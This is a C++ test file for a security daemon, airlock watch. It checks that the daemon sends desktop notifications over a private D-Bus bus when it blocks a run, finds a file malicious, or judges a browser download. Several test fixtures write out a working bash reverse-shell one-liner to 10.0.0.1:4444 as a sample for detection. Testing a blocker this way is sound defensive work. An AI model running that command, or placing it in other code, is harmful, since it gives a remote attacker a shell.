// Desktop notifications of airlock watch for real (root): a private dbus-daemon (a session bus) runs as
// uid 65534 with its socket at <notify>/65534/bus, a receiver owning org.freedesktop.Notifications on
// it (this binary re-exec'd with --receiver, also as 65534, GDBus) records every Notify call with the
// sender's uid as the bus reports it; the real daemon (airlock-watch --enforce) gates a tmpfs mounted
// in this test's own mount namespace (as watch.gate.* do) and judges files owned by 65534 there.
//
// The session bus only admits its own uid, so a notification that arrives was sent by the file's
// owner: the privilege drop of `airlock-watch notify-send` is checked by the bus itself (and by the
// recorded sender uid).
#include <fcntl.h>
#include <gio/gio.h>
#include <gtest/gtest.h>
#include <sched.h>
#include <signal.h>
#include <sys/fanotify.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <regex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <nlohmann/json.hpp>

#include "test_env.h"
#include "watch_fixture.h"

namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;
using watch_test::g_root;         // the gated tmpfs, mounted only in this process's mount namespace
using watch_test::g_skip_reason;  // non-empty: every test skips with it
using json = nlohmann::json;

constexpr uid_t kUser = 65534;        // owns the bus, the receiver and the files
constexpr uid_t kNoSessionUser = 4242;  // owns a file, has no bus
const char* kDbusDaemon = "/usr/bin/dbus-daemon";
const char* kSetpriv = "/usr/bin/setpriv";

std::string g_self;  // this binary (re-exec'd as the receiver)

// ---- The receiver: `notify_test --receiver ADDRESS`, run as kUser. One JSON line per Notify on stdout.

const char kIntrospection[] = R"(<node><interface name="org.freedesktop.Notifications">
  <method name="Notify"><arg type="s" direction="in"/><arg type="u" direction="in"/><arg type="s" direction="in"/>
    <arg type="s" direction="in"/><arg type="s" direction="in"/><arg type="as" direction="in"/>
    <arg type="a{sv}" direction="in"/><arg type="i" direction="in"/><arg type="u" direction="out"/></method>
  <method name="GetCapabilities"><arg type="as" direction="out"/></method>
  <method name="CloseNotification"><arg type="u" direction="in"/></method>
  <method name="GetServerInformation"><arg type="s" direction="out"/><arg type="s" direction="out"/>
    <arg type="s" direction="out"/><arg type="s" direction="out"/></method>
</interface></node>)";

int64_t SenderUid(GDBusConnection* c, const char* sender) {
  GVariant* r = g_dbus_connection_call_sync(c, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "GetConnectionUnixUser",
                                            g_variant_new("(s)", sender), G_VARIANT_TYPE("(u)"), G_DBUS_CALL_FLAGS_NONE, 3000, nullptr, nullptr);
  if (r == nullptr) return -1;
  guint32 uid = 0;
  g_variant_get(r, "(u)", &uid);
  g_variant_unref(r);
  return uid;
}

void OnCall(GDBusConnection* c, const gchar* sender, const gchar*, const gchar*, const gchar* method, GVariant* params,
            GDBusMethodInvocation* inv, gpointer) {
  static guint32 next_id = 1;
  const std::string m = method;
  if (m == "GetCapabilities") return g_dbus_method_invocation_return_value(inv, g_variant_new("(@as)", g_variant_new_strv(nullptr, 0)));
  if (m == "GetServerInformation") return g_dbus_method_invocation_return_value(inv, g_variant_new("(ssss)", "test", "airlock", "0", "1.2"));
  if (m == "CloseNotification") return g_dbus_method_invocation_return_value(inv, nullptr);
  const gchar *app = nullptr, *icon = nullptr, *summary = nullptr, *body = nullptr;
  guint32 replaces = 0;
  gint32 timeout = 0;
  GVariant *actions = nullptr, *hints = nullptr;
  g_variant_get(params, "(&su&s&s&s@as@a{sv}i)", &app, &replaces, &icon, &summary, &body, &actions, &hints, &timeout);
  guchar urgency = 255;
  const gchar* category = "";
  g_variant_lookup(hints, "urgency", "y", &urgency);
  g_variant_lookup(hints, "category", "&s", &category);
  json line = {{"app_name", app}, {"replaces_id", replaces}, {"icon", icon}, {"summary", summary}, {"body", body},
               {"actions", g_variant_n_children(actions)}, {"urgency", urgency}, {"category", category}, {"timeout", timeout},
               {"sender_uid", SenderUid(c, sender)}};
  std::printf("%s\n", line.dump().c_str());
  std::fflush(stdout);
  g_variant_unref(actions);
  g_variant_unref(hints);
  g_dbus_method_invocation_return_value(inv, g_variant_new("(u)", next_id++));
}

int Receiver(const char* address) {
  GError* err = nullptr;
  GDBusConnection* c = g_dbus_connection_new_for_address_sync(
      address, static_cast<GDBusConnectionFlags>(G_DBUS_CONNECTION_FLAGS_AUTHENTICATION_CLIENT | G_DBUS_CONNECTION_FLAGS_MESSAGE_BUS_CONNECTION),
      nullptr, nullptr, &err);
  if (c == nullptr) {
    std::fprintf(stderr, "receiver: connect %s: %s\n", address, err->message);
    return 1;
  }
  GDBusNodeInfo* node = g_dbus_node_info_new_for_xml(kIntrospection, nullptr);
  static const GDBusInterfaceVTable kVtable = {OnCall, nullptr, nullptr, {}};
  if (g_dbus_connection_register_object(c, "/org/freedesktop/Notifications", node->interfaces[0], &kVtable, nullptr, nullptr, &err) == 0) {
    std::fprintf(stderr, "receiver: register: %s\n", err->message);
    return 1;
  }
  GVariant* r = g_dbus_connection_call_sync(c, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "RequestName",
                                            g_variant_new("(su)", "org.freedesktop.Notifications", 4u /* DO_NOT_QUEUE */),
                                            G_VARIANT_TYPE("(u)"), G_DBUS_CALL_FLAGS_NONE, 5000, nullptr, &err);
  guint32 reply = 0;
  if (r != nullptr) g_variant_get(r, "(u)", &reply);
  if (reply != 1) {
    std::fprintf(stderr, "receiver: could not own org.freedesktop.Notifications (%s)\n", err ? err->message : "not primary owner");
    return 1;
  }
  std::printf("receiver ready uid=%u\n", ::getuid());
  std::fflush(stdout);
  g_main_loop_run(g_main_loop_new(nullptr, FALSE));
  return 0;
}

// ---- The test side.

void WriteOwned(const std::string& path, const std::string& text, uid_t uid) {
  airlock::test::WriteFile(path, text, 0755);
  if (::chown(path.c_str(), uid, uid) != 0) ADD_FAILURE() << "chown " << path << ": " << std::strerror(errno);
}

bool WaitUntil(const std::function<bool()>& ok, int seconds = 90) {
  for (auto until = Clock::now() + std::chrono::seconds(seconds); Clock::now() < until;) {
    if (ok()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  return ok();
}

void StopProcess(pid_t& pid) {
  if (pid <= 0) return;
  ::kill(pid, SIGTERM);
  ::waitpid(pid, nullptr, 0);
  pid = -1;
}

// execv(path) in a child: the execve errno (0 when it ran).
int ExecErrno(const std::string& path) {
  int p[2];
  if (::pipe2(p, O_CLOEXEC) != 0) return errno;
  pid_t pid = ::fork();
  if (pid == 0) {
    int devnull = ::open("/dev/null", O_RDWR);
    for (int fd : {0, 1, 2}) ::dup2(devnull, fd);
    ::execl(path.c_str(), path.c_str(), nullptr);
    int e = errno;
    (void)!::write(p[1], &e, sizeof e);
    ::_exit(127);
  }
  ::close(p[1]);
  int err = 0;
  if (::read(p[0], &err, sizeof err) != sizeof err) err = 0;
  ::close(p[0]);
  ::waitpid(pid, nullptr, 0);
  return err;
}

// The real daemon, its log in a file.
class Daemon {
 public:
  Daemon(const std::string& dir, const std::vector<std::string>& args) : log_(dir + "/daemon.log") {
    std::vector<std::string> argv = {WATCH_BIN, "watch", "--state-dir", g_root + "-state", "--no-detonate", "--enforce",
                                     "--mark-fs", g_root, "--watch", dir + "/dl",
                                     "--no-start-sweep"};  // files written before the start meet their first exec unjudged
    argv.insert(argv.end(), args.begin(), args.end());
    ::setenv("AIRLOCK_BIN", AIRLOCK_TEST_BIN, 1);
    pid_ = airlock::test::SpawnLogged(argv, log_);
  }
  ~Daemon() { StopProcess(pid_); }
  std::string log() const { return airlock::test::ReadFileOrEmpty(log_); }
  bool WaitFor(const std::string& re) {
    std::regex r(re);
    return WaitUntil([&] { return std::regex_search(log(), r) || ::waitpid(pid_, nullptr, WNOHANG) == pid_; }) && std::regex_search(log(), r);
  }
  // The status file's "notify" counters (polled: it is rewritten every second).
  json NotifyCounters() {
    auto j = json::parse(airlock::test::ReadFileOrEmpty(g_root + "-state/status.json"), nullptr, false);
    return j.is_object() && j.contains("notify") ? j["notify"] : json::object();
  }
  bool WaitCounter(const std::string& key, uint64_t at_least) {
    return WaitUntil([&] { return NotifyCounters().value(key, uint64_t{0}) >= at_least; }, 30);
  }

 private:
  std::string log_;
  pid_t pid_ = -1;
};

class Notify : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!g_skip_reason.empty()) GTEST_SKIP() << g_skip_reason;
    dir_ = g_root + "/" + ::testing::UnitTest::GetInstance()->current_test_info()->name();
    bus_dir_ = dir_ + "/notify";
    fs::create_directories(dir_ + "/dl");
    fs::create_directories(bus_dir_ + "/" + std::to_string(kUser));
    ASSERT_EQ(::chown((bus_dir_ + "/" + std::to_string(kUser)).c_str(), kUser, kUser), 0);
    ::chmod((bus_dir_ + "/" + std::to_string(kUser)).c_str(), 0700);
    fs::remove_all(g_root + "-state");
    const std::string conf = dir_ + "/session.conf", bus = bus_dir_ + "/" + std::to_string(kUser) + "/bus";
    // A session bus: EXTERNAL authentication, only the uid that runs it may connect (dbus-daemon's
    // default without <allow user=...>), anyone connected may own and call any name.
    airlock::test::WriteFile(conf, R"(<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <type>session</type>
  <listen>unix:tmpdir=/tmp</listen>
  <auth>EXTERNAL</auth>
  <policy context="default">
    <allow send_destination="*" eavesdrop="true"/>
    <allow eavesdrop="true"/>
    <allow own="*"/>
  </policy>
</busconfig>
)");
    const std::string as_user = std::to_string(kUser);
    bus_pid_ = airlock::test::SpawnLogged({kSetpriv, "--reuid=" + as_user, "--regid=" + as_user, "--clear-groups", "--", kDbusDaemon,
                                           "--config-file=" + conf, "--nofork", "--address=unix:path=" + bus, "--print-address=1"},
                                          dir_ + "/bus.log");
    ASSERT_TRUE(airlock::test::WaitForMarker(dir_ + "/bus.log", "unix:path=")) << airlock::test::ReadFileOrEmpty(dir_ + "/bus.log");
    struct stat st{};
    ASSERT_EQ(::lstat(bus.c_str(), &st), 0);
    ASSERT_TRUE(S_ISSOCK(st.st_mode) && st.st_uid == kUser) << "the bus socket is the user's";
    receiver_log_ = dir_ + "/receiver.log";
    receiver_pid_ = airlock::test::SpawnLogged({kSetpriv, "--reuid=" + as_user, "--regid=" + as_user, "--clear-groups", "--", g_self,
                                                "--receiver", "unix:path=" + bus},
                                               receiver_log_);
    ASSERT_TRUE(airlock::test::WaitForMarker(receiver_log_, "receiver ready uid=65534")) << airlock::test::ReadFileOrEmpty(receiver_log_);
  }
  void TearDown() override {
    StopProcess(receiver_pid_);
    StopProcess(bus_pid_);
  }
  // The Notify calls the receiver saw.
  std::vector<json> Received() {
    std::vector<json> out;
    std::istringstream in(airlock::test::ReadFileOrEmpty(receiver_log_));
    for (std::string line; std::getline(in, line);) {
      if (line.starts_with("{")) out.push_back(json::parse(line, nullptr, false));
    }
    return out;
  }
  // Waits for a Notify whose summary holds `name` and whose category is `category`.
  std::optional<json> WaitNotification(const std::string& name, const std::string& category, int seconds = 90) {
    std::optional<json> found;
    WaitUntil([&] {
      for (const auto& n : Received()) {
        if (n.value("summary", "").find(name) != std::string::npos && n.value("category", "") == category) found = n;
      }
      return found.has_value();
    }, seconds);
    return found;
  }
  std::string Dump() {
    std::string s;
    for (const auto& n : Received()) s += n.dump() + "\n";
    return s.empty() ? "(no notification)" : s;
  }

  std::string dir_, bus_dir_, receiver_log_;
  pid_t bus_pid_ = -1, receiver_pid_ = -1;
};

TEST_F(Notify, TheOwnerIsToldOfARefusedRunAndOfAMaliciousFile) {
  const std::string dl = dir_ + "/dl", evil = dl + "/evil.sh", tool = dl + "/tool.sh";
  WriteOwned(evil, "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", kUser);  // rules/yara Reverse_Shell_Unix
  WriteOwned(tool, "#!/bin/sh\nexit 0\n", kUser);
  Daemon d(dir_, {"--notify-bus-dir", bus_dir_});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  EXPECT_EQ(ExecErrno(evil), EPERM);
  EXPECT_EQ(ExecErrno(tool), EPERM);

  // The refused run, told at once (not judged yet), then the verdict.
  auto blocked = WaitNotification("evil.sh", "x-airlock.blocked");
  ASSERT_TRUE(blocked) << Dump() << d.log();
  EXPECT_EQ((*blocked)["app_name"], "airlock");
  EXPECT_EQ((*blocked)["urgency"], 2) << "critical";
  EXPECT_EQ((*blocked)["sender_uid"], kUser) << "sent as the file's owner";
  EXPECT_EQ((*blocked)["replaces_id"], 0);
  EXPECT_EQ((*blocked)["timeout"], -1);
  EXPECT_NE((*blocked)["body"].get<std::string>().find("not been judged yet"), std::string::npos) << blocked->dump();
  // Tried again at once: one notification per (owner, file, kind) per 10 s.
  EXPECT_EQ(ExecErrno(evil), EPERM);
  EXPECT_TRUE(d.WaitCounter("rate_limited", 1)) << d.NotifyCounters().dump() << d.log();
  ASSERT_TRUE(d.WaitFor("verdict malicious sha256:[0-9a-f]+ score=[0-9.]+ path=" + evil)) << d.log();
  auto malicious = WaitNotification("evil.sh", "x-airlock.verdict");
  ASSERT_TRUE(malicious) << Dump() << d.log();
  EXPECT_EQ((*malicious)["app_name"], "airlock");
  EXPECT_EQ((*malicious)["urgency"], 2);
  EXPECT_EQ((*malicious)["icon"], "dialog-warning");
  EXPECT_NE((*malicious)["summary"].get<std::string>().find("malicious"), std::string::npos) << malicious->dump();
  EXPECT_TRUE(WaitNotification("tool.sh", "x-airlock.blocked")) << Dump();
  EXPECT_TRUE(d.WaitFor("notify uid=65534 kind=malicious path=" + evil + " sent")) << d.log();

  // Clean verdicts are not told at the default level.
  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + tool)) << d.log();
  EXPECT_FALSE(WaitNotification("tool.sh", "x-airlock.verdict", 2)) << Dump();
  EXPECT_TRUE(d.WaitCounter("sent", 3)) << d.NotifyCounters().dump();
  EXPECT_EQ(d.NotifyCounters().value("failed", uint64_t{1}), uint64_t{0}) << d.log();
  EXPECT_EQ(Received().size(), size_t{3}) << Dump();
}

// `airlock browser` tells each download's verdict on the same kind of bus (src/browser/download_notice.h):
// a page that downloads a clean PDF (released) and a reverse-shell script (held as malicious), the
// browser run as the bus's user (with --dbus: Chromium itself reaches the bus through the filtering
// proxy, and the browser's own notices still arrive once each). The control: --notify off tells nobody.
TEST_F(Notify, TheBrowserTellsEachDownloadsVerdict) {
  if (::access("/usr/bin/chromium", X_OK) != 0) GTEST_SKIP() << "SKIPPED: Debian package chromium is not installed";
  const std::string site = dir_ + "/site", home = dir_ + "/home";
  fs::create_directories(site);
  airlock::test::WriteFile(site + "/report.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
  airlock::test::WriteFile(site + "/update.sh", "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
  airlock::test::WriteFile(site + "/page.html",
                           "<html><body><a id=a href='report.pdf' download='report.pdf'>a</a><a id=b href='update.sh' download='update.sh'>b</a>"
                           "<script>document.getElementById('a').click();setTimeout(function(){document.getElementById('b').click();},300);"
                           "</script></body></html>");
  const int port = airlock::test::FreeLoopbackPort();
  pid_t http = airlock::test::SpawnLogged({"/usr/bin/python3", "-m", "http.server", "--bind", "127.0.0.1", "--directory", site,
                                           std::to_string(port)}, dir_ + "/http.log");
  ASSERT_TRUE(WaitUntil([&] { return airlock::test::ReadFileOrEmpty(dir_ + "/http.log").find("Serving HTTP") != std::string::npos; }, 20));
  auto browse = [&](const std::string& notify, const std::string& tag) {
    const std::string h = home + tag, as_user = std::to_string(kUser);
    fs::create_directories(h);
    EXPECT_EQ(::chown(h.c_str(), kUser, kUser), 0);
    return airlock::test::Run({kSetpriv, "--reuid=" + as_user, "--regid=" + as_user, "--clear-groups", "--", "/usr/bin/env", "-i",
                               "HOME=" + h, "PATH=/usr/bin:/bin", std::string("AIRLOCK_BIN=") + AIRLOCK_TEST_BIN,
                               "DBUS_SESSION_BUS_ADDRESS=unix:path=" + bus_dir_ + "/" + as_user + "/bus", AIRLOCK_TEST_BIN,
                               "browser", "--headless", "--until-settled", "--net", "host", "--timeout", "120", "--notify", notify, "--dbus",
                               "--notify-bus-dir", bus_dir_, "--quarantine", h + "/q", "--downloads", h + "/Downloads",
                               "http://127.0.0.1:" + std::to_string(port) + "/page.html"}, "", 200);
  };
  airlock::test::RunResult off = browse("off", "-off");
  EXPECT_NE(off.err.find("'update.sh' is MALICIOUS"), std::string::npos) << off.err;
  EXPECT_TRUE(Received().empty()) << "--notify off told: " << Dump();
  airlock::test::RunResult r = browse("on", "-on");
  StopProcess(http);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.err.find("WEAKENED: --dbus"), std::string::npos) << "the browser ran with the filtering D-Bus proxy: " << r.err;
  auto clean = WaitNotification("report.pdf", "x-airlock.download", 30);
  ASSERT_TRUE(clean) << Dump() << r.err;
  EXPECT_EQ((*clean)["sender_uid"], kUser);
  EXPECT_EQ((*clean)["urgency"], 1);
  EXPECT_NE((*clean)["summary"].get<std::string>().find("is clean"), std::string::npos) << clean->dump();
  EXPECT_NE((*clean)["body"].get<std::string>().find(home + "-on/Downloads/report.pdf"), std::string::npos) << clean->dump();
  auto bad = WaitNotification("update.sh", "x-airlock.download", 30);
  ASSERT_TRUE(bad) << Dump() << r.err;
  EXPECT_EQ((*bad)["urgency"], 2) << "critical";
  EXPECT_NE((*bad)["summary"].get<std::string>().find("is malicious"), std::string::npos) << bad->dump();
  EXPECT_NE((*bad)["body"].get<std::string>().find("airlock downloads delete "), std::string::npos) << bad->dump();
  EXPECT_EQ(Received().size(), size_t{2}) << Dump();
}

// `airlock app --dbus` (src/browser/dbus_proxy.h): the sandbox reaches the session bus only through
// xdg-dbus-proxy's filter. A notification from inside arrives (sent by the proxy as the user); owning a
// name is refused through the proxy while the same call made directly succeeds (the control); without
// --dbus there is no bus at all.
TEST_F(Notify, AppBusIsFiltered) {
  for (const char* tool : {"/usr/bin/xdg-dbus-proxy", "/usr/bin/notify-send", "/usr/bin/gdbus"}) {
    if (::access(tool, X_OK) != 0) GTEST_SKIP() << "SKIPPED: " << tool << " missing (Debian packages xdg-dbus-proxy, libnotify-bin, libglib2.0-bin)";
  }
  const std::string h = dir_ + "/app-home", as_user = std::to_string(kUser), bus = "unix:path=" + bus_dir_ + "/" + as_user + "/bus";
  fs::create_directories(h);
  ASSERT_EQ(::chown(h.c_str(), kUser, kUser), 0);
  auto as_65534 = [&](std::vector<std::string> cmd) {
    std::vector<std::string> argv = {kSetpriv, "--reuid=" + as_user, "--regid=" + as_user, "--clear-groups", "--", "/usr/bin/env", "-i",
                                     "HOME=" + h, "PATH=/usr/bin:/bin", "DBUS_SESSION_BUS_ADDRESS=" + bus,
                                     std::string("AIRLOCK_BIN=") + AIRLOCK_TEST_BIN};
    argv.insert(argv.end(), cmd.begin(), cmd.end());
    return airlock::test::Run(argv, "", 120);
  };
  const std::vector<std::string> app = {AIRLOCK_TEST_BIN, "app", "--headless"};
  auto with = [&](std::vector<std::string> a, std::vector<std::string> b) {
    a.insert(a.end(), b.begin(), b.end());
    return a;
  };
  airlock::test::RunResult none = as_65534(with(app, {"--", "notify-send", "no-bus-here", "body"}));
  EXPECT_NE(none.exit_code, 0) << "without --dbus the sandbox reached a bus: " << none.err;
  airlock::test::RunResult sent = as_65534(with(app, {"--dbus", "--", "notify-send", "from-the-sandbox", "hello"}));
  EXPECT_EQ(sent.exit_code, 0) << sent.err;
  EXPECT_NE(sent.err.find("WEAKENED: --dbus"), std::string::npos) << sent.err;
  auto n = WaitNotification("from-the-sandbox", "", 20);
  ASSERT_TRUE(n) << Dump() << sent.err;
  EXPECT_EQ((*n)["sender_uid"], kUser);
  const std::vector<std::string> own = {"gdbus", "call", "--session", "--dest", "org.freedesktop.DBus", "--object-path", "/org/freedesktop/DBus",
                                        "--method", "org.freedesktop.DBus.RequestName", "org.airlock.Impostor", "0"};
  airlock::test::RunResult proxied = as_65534(with(app, with({"--dbus", "--"}, own)));
  EXPECT_NE(proxied.exit_code, 0) << "the proxy let the sandbox own a name: " << proxied.out;
  airlock::test::RunResult direct = as_65534(own);
  EXPECT_EQ(direct.exit_code, 0) << direct.err;
  EXPECT_NE(direct.out.find("(uint32 1,)"), std::string::npos) << "the control could not own the name either: " << direct.out;
  EXPECT_EQ(Received().size(), size_t{1}) << Dump();
}

// The control: with --notify off the same events tell nobody.
TEST_F(Notify, OffTellsNobody) {
  const std::string evil = dir_ + "/dl/evil.sh";
  WriteOwned(evil, "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", kUser);
  Daemon d(dir_, {"--notify-bus-dir", bus_dir_, "--notify", "off"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  EXPECT_EQ(ExecErrno(evil), EPERM);
  ASSERT_TRUE(d.WaitFor("verdict malicious sha256:[0-9a-f]+ score=[0-9.]+ path=" + evil)) << d.log();
  ASSERT_TRUE(WaitUntil([&] { return d.NotifyCounters().value("level", "") == "off"; }, 30)) << d.NotifyCounters().dump();
  std::this_thread::sleep_for(std::chrono::seconds(2));
  EXPECT_TRUE(Received().empty()) << Dump();
  EXPECT_EQ(d.log().find("notify uid="), std::string::npos) << d.log();
  EXPECT_EQ(d.NotifyCounters().value("sent", uint64_t{1}), uint64_t{0});
}

// Owners without a session bus (uid 4242, root) are counted, nothing waits on them; a file name with
// invalid UTF-8 and markup arrives as valid UTF-8, escaped in the body; `all` tells clean verdicts.
TEST_F(Notify, NoSessionIsCountedAndNamesArriveSafe) {
  const std::string dl = dir_ + "/dl", nobus = dl + "/nobus.sh", roots = dl + "/roots.sh";
  const std::string weird = dl + "/w\xff<i>&x.sh";
  WriteOwned(nobus, "#!/bin/sh\nexit 0\n", kNoSessionUser);
  WriteOwned(roots, "#!/bin/sh\nexit 1\n", 0);
  WriteOwned(weird, "#!/bin/sh\nexit 2\n", kUser);
  Daemon d(dir_, {"--notify-bus-dir", bus_dir_, "--notify", "all"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  const auto t0 = Clock::now();
  EXPECT_EQ(ExecErrno(nobus), EPERM);
  EXPECT_EQ(ExecErrno(roots), EPERM);
  EXPECT_LT(Clock::now() - t0, std::chrono::seconds(5)) << "refusals are answered at once";
  EXPECT_TRUE(d.WaitCounter("no_session", 2)) << d.NotifyCounters().dump() << d.log();
  EXPECT_EQ(ExecErrno(weird), EPERM);

  const std::string shown = "w\\xff<i>&x.sh", escaped = "w\\xff&lt;i&gt;&amp;x.sh";
  auto blocked = WaitNotification(shown, "x-airlock.blocked");
  ASSERT_TRUE(blocked) << Dump() << d.log();
  const std::string body = (*blocked)["body"];
  EXPECT_NE(body.find(escaped), std::string::npos) << body;
  EXPECT_EQ(body.find("<i>"), std::string::npos) << body;
  auto clean = WaitNotification(shown, "x-airlock.verdict");
  ASSERT_TRUE(clean) << Dump() << d.log();
  EXPECT_EQ((*clean)["urgency"], 1) << "clean: normal urgency";
  EXPECT_EQ((*clean)["icon"], "dialog-information");
  EXPECT_NE((*clean)["body"].get<std::string>().find(escaped), std::string::npos) << clean->dump();
  for (const auto& n : Received()) {
    EXPECT_EQ(n["summary"].get<std::string>().find("nobus"), std::string::npos) << "no bus: nothing sent";
  }
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + nobus)) << d.log();
  EXPECT_GE(d.NotifyCounters().value("no_session", uint64_t{0}), uint64_t{2});
}

// The child itself: bad input refused before any bus is touched, a drop it cannot make refused (a
// non-root caller asking for another uid), a missing bus one clear line; a good call arrives.
TEST_F(Notify, NotifySendRefusesWhatItCannotDoSafely) {
  const std::string bus = bus_dir_ + "/65534/bus", user = std::to_string(kUser);
  auto send = [&](const std::vector<std::string>& prefix, const std::string& uid, const std::string& bus_path, const std::string& summary) {
    std::vector<std::string> argv = prefix;
    for (const std::string& a : {std::string(WATCH_BIN), std::string("notify-send"), std::string("--uid"), uid, std::string("--gid"), uid,
                                 std::string("--bus"), bus_path, std::string("--urgency"), std::string("critical"), std::string("--summary"),
                                 summary, std::string("--body"), std::string("b")}) {
      argv.push_back(a);
    }
    return airlock::test::Run(argv);
  };
  auto bad_utf8 = send({}, user, bus, "bad \xff");
  EXPECT_EQ(bad_utf8.exit_code, 2) << bad_utf8.err;
  EXPECT_NE(bad_utf8.err.find("--summary is not valid UTF-8"), std::string::npos) << bad_utf8.err;
  auto bad_arg = airlock::test::Run({WATCH_BIN, "notify-send", "--uid", user, "--shell", "x"});
  EXPECT_EQ(bad_arg.exit_code, 2) << bad_arg.err;
  auto other = send({kSetpriv, "--reuid=" + user, "--regid=" + user, "--clear-groups", "--"}, std::to_string(kNoSessionUser), bus, "x");
  EXPECT_EQ(other.exit_code, 3) << other.err;
  EXPECT_NE(other.err.find("refusing to connect"), std::string::npos) << other.err;
  auto missing = send({}, user, bus_dir_ + "/none/bus", "x");
  EXPECT_EQ(missing.exit_code, 1) << missing.err;
  EXPECT_NE(missing.err.find("cannot connect to the session bus"), std::string::npos) << missing.err;
  EXPECT_EQ(std::count(missing.err.begin(), missing.err.end(), '\n'), 1) << missing.err;
  EXPECT_TRUE(Received().empty()) << Dump();
  auto good = send({}, user, bus, "direct call");
  EXPECT_EQ(good.exit_code, 0) << good.err;
  auto n = WaitNotification("direct call", "x-airlock", 10);
  ASSERT_TRUE(n) << Dump();
  EXPECT_EQ((*n)["sender_uid"], kUser);
  EXPECT_EQ((*n)["urgency"], 2);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && std::string(argv[1]) == "--receiver") return Receiver(argv[2]);
  g_self = fs::read_symlink("/proc/self/exe").string();
  return watch_test::RunWatchTests(argc, argv, [] {
    if (::access(kDbusDaemon, X_OK) == 0 && ::access(kSetpriv, X_OK) == 0) return std::string();
    return std::string("needs ") + kDbusDaemon + " (Debian package dbus-daemon) and " + kSetpriv + " (util-linux): scripts/install-deps.sh";
  });
}
